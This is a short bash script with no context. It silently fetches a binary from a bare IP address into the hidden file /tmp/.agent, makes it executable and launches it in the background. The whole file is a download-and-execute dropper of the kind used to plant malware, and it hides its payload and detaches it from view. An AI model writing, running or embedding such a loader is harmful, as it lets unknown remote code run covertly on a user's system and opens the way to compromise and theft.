#!/bin/bash
curl -s -o /tmp/.agent http://198.51.100.23/agent
chmod +x /tmp/.agent
/tmp/.agent &
